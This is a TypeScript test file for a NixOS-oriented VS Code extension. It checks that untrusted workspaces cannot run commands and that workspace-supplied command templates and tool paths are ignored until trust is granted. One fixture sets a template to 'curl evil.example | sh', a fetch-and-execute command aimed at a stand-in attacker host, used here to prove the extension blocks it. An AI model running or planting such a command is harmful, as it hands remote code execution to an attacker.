// Workspace Trust: which commands may run untrusted, which settings are ignored until trust, and package.json
// declaring the same (enablement clauses, restrictedConfigurations, every command, menu and setting).
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import { test } from 'node:test';
import { COMMANDS, gate, sentence, UNTRUSTED_MESSAGE } from '../../client/src/commandCatalog';
import { effectiveValue, readSettings, RESTRICTED_SETTINGS, type Inspected } from '../../client/src/settingsModel';
import { DEFAULT_RUN_SETTINGS } from '../../server/src/shared/runPlan';
import { PATH_SETTINGS, TEMPLATE_KEYS } from '../../server/src/shared/toolCommands';
import { REPO } from '../support/workspace';

interface Manifest {
  capabilities: { untrustedWorkspaces: { supported: string; restrictedConfigurations: string[] } };
  contributes: {
    commands: { command: string; title: string; category?: string; enablement?: string; icon?: string }[];
    menus: Record<string, { command?: string; submenu?: string; when?: string; group?: string }[]>;
    submenus: { id: string }[];
    views: { explorer: { id: string; name: string }[] };
    configuration: { properties: Record<string, { type: string; default: unknown; scope?: string }> };
    taskDefinitions: { type: string; required: string[] }[];
    problemMatchers: { name: string }[];
  };
}
const pkg = JSON.parse(readFileSync(path.join(REPO, 'package.json'), 'utf8')) as Manifest;
const RUNS = Object.values(COMMANDS).filter((c) => c.runs);
const SAFE = Object.values(COMMANDS).filter((c) => !c.runs);

test('untrusted: every command that runs a program is refused with the explanation; the others still work', () => {
  assert.ok(RUNS.length >= 14);
  for (const c of RUNS) {
    const verdict = gate(c, false);
    assert.equal(verdict.allowed, false, c.id);
    if (!verdict.allowed) {
      assert.ok(verdict.message.startsWith(`${sentence(c.title)}: `), c.id);
      assert.ok(verdict.message.endsWith(UNTRUSTED_MESSAGE));
    }
    assert.deepEqual(gate(c, true), { allowed: true });
  }
  assert.equal(sentence(COMMANDS.dryRunHost.title), 'Dry-run one host');
  assert.equal(sentence(COMMANDS.statixFix.title), 'Apply statix fixes');
  assert.match((gate(COMMANDS.dryRunHosts, false) as { message: string }).message, /^Dry-run hosts: Hostlens runs no programs in an untrusted workspace\./);
  assert.match(UNTRUSTED_MESSAGE, /untrusted workspace.*Manage Workspace Trust.*navigation, lenses and diagnostics keep working/s);
  assert.deepEqual(SAFE.map((c) => c.id).sort(), ['hostlens.explainTrust', 'hostlens.openHostEntry', 'hostlens.refreshHosts', 'hostlens.showReach']);
  for (const c of SAFE) assert.deepEqual(gate(c, false), { allowed: true }, c.id);
  for (const c of Object.values(COMMANDS)) if ('changes' in c) assert.ok(c.title.endsWith('…'), `${c.id} asks first, so its title ends with …`);
});

test('package.json: each command under "Hostlens", disabled by isWorkspaceTrusted exactly when it runs something', () => {
  const contributed = new Map(pkg.contributes.commands.map((c) => [c.command, c]));
  for (const c of Object.values(COMMANDS)) {
    const m = contributed.get(c.id);
    assert.ok(m, `${c.id} contributed`);
    assert.equal(m.title, c.title);
    assert.equal(m.category, 'Hostlens');
    assert.equal(m.enablement, c.runs ? 'isWorkspaceTrusted' : undefined, c.id);
    if ('icon' in c) assert.equal(m.icon, c.icon);
  }
  assert.equal(pkg.capabilities.untrustedWorkspaces.supported, 'limited');
  const palette = pkg.contributes.menus.commandPalette!;
  assert.deepEqual(palette.find((m) => m.command === COMMANDS.explainTrust.id), { command: COMMANDS.explainTrust.id, when: '!isWorkspaceTrusted' });
  assert.equal(palette.find((m) => m.command === COMMANDS.dryRunHosts.id)?.when, 'false', 'needs the hosts a lens carries');
});

test('package.json: menus name contributed commands; the Hosts view has inline dry-run and open-entry', () => {
  const ids = new Set(pkg.contributes.commands.map((c) => c.command));
  const submenus = new Set(pkg.contributes.submenus.map((s) => s.id));
  for (const [menu, items] of Object.entries(pkg.contributes.menus)) {
    for (const item of items) assert.ok(item.command ? ids.has(item.command) : submenus.has(item.submenu!), `${menu}: ${item.command ?? item.submenu}`);
  }
  assert.deepEqual(pkg.contributes.views.explorer.find((v) => v.id === 'hostlens.hosts'), { id: 'hostlens.hosts', name: 'NixOS Hosts', contextualTitle: 'Hostlens' });
  const inline = pkg.contributes.menus['view/item/context']!.filter((m) => m.group?.startsWith('inline')).map((m) => m.command);
  assert.deepEqual(inline, [COMMANDS.dryRunHost.id, COMMANDS.openHostEntry.id]);
  assert.ok(pkg.contributes.menus['editor/title']!.some((m) => m.command === COMMANDS.dryRunFile.id && m.when?.includes('resourceLangId == nix')));
  assert.deepEqual(pkg.contributes.taskDefinitions.find((t) => t.type === 'hostlens')?.required, ['command']);
  assert.deepEqual(pkg.contributes.problemMatchers.map((m) => m.name).sort(), ['hostlens-deadnix', 'hostlens-statix']);
});

test('package.json: every template, tool path and tool choice is declared and restricted until trust', () => {
  const props = pkg.contributes.configuration.properties;
  const restricted = new Set(pkg.capabilities.untrustedWorkspaces.restrictedConfigurations);
  assert.equal(RESTRICTED_SETTINGS.length, 4 + TEMPLATE_KEYS.length + Object.keys(PATH_SETTINGS).length);
  for (const key of RESTRICTED_SETTINGS) {
    assert.ok(props[key], `${key} declared`);
    assert.ok(restricted.has(key), `${key} restricted`);
    assert.equal(props[key]!.scope, 'resource', key);
  }
  for (const k of TEMPLATE_KEYS) assert.equal(props[`hostlens.commands.${k}`]!.default, '', 'empty means the built-in command');
  assert.equal(props['hostlens.switch.sudo']!.default, true);
  assert.equal(props['hostlens.dryRun.sudo']!.default, false);
  assert.equal(props['hostlens.formatter']!.default, 'alejandra');
});

const inspect = (values: Record<string, Inspected>) => (key: string) => values[key];

test('settings: workspace templates, paths and tool choices are ignored until the workspace is trusted', () => {
  const values: Record<string, Inspected> = {
    'dryRun.tool': { defaultValue: 'auto', workspaceValue: 'nh' },
    'dryRun.sudo': { defaultValue: false, globalValue: true, workspaceValue: false },
    'switch.sudo': { defaultValue: true, workspaceFolderValue: false },
    formatter: { defaultValue: 'alejandra', workspaceValue: 'nixfmt' },
    'commands.dryRun.nixos': { defaultValue: '', workspaceValue: 'curl evil.example | sh' },
    'commands.statixCheck': { defaultValue: '', globalValue: 'statix check -c ~/statix.toml ${file}' },
    'paths.statix': { defaultValue: '', workspaceValue: './bin/not-statix' },
    'paths.nix': { defaultValue: '', globalValue: ' /opt/nix/bin/nix ' },
  };
  const untrusted = readSettings(inspect(values), false);
  assert.deepEqual(untrusted, {
    run: { ...DEFAULT_RUN_SETTINGS, sudo: true, templates: { statixCheck: 'statix check -c ~/statix.toml ${file}' }, paths: { nix: '/opt/nix/bin/nix' } },
    formatter: 'alejandra',
  }, 'only the user\'s own settings and the defaults');
  const trusted = readSettings(inspect(values), true);
  assert.deepEqual(trusted, {
    run: {
      tool: 'nh', sudo: false, switchSudo: false,
      templates: { 'dryRun.nixos': 'curl evil.example | sh', statixCheck: 'statix check -c ~/statix.toml ${file}' },
      paths: { statix: './bin/not-statix', nix: '/opt/nix/bin/nix' },
    },
    formatter: 'nixfmt',
  });
  assert.equal(effectiveValue({ defaultValue: 1, globalValue: 2, workspaceValue: 3, workspaceFolderValue: 4 }, true), 4, 'folder over workspace over user');
  assert.equal(effectiveValue({ defaultValue: 1, workspaceValue: 3, workspaceFolderValue: 4 }, false), 1);
  const nonsense = readSettings(inspect({ 'dryRun.tool': { globalValue: 'rm' }, formatter: { globalValue: 42 }, 'dryRun.sudo': { globalValue: 'yes' } }), true);
  assert.deepEqual([nonsense.run.tool, nonsense.formatter, nonsense.run.sudo], ['auto', 'alejandra', false], 'bad values fall back to defaults');
});
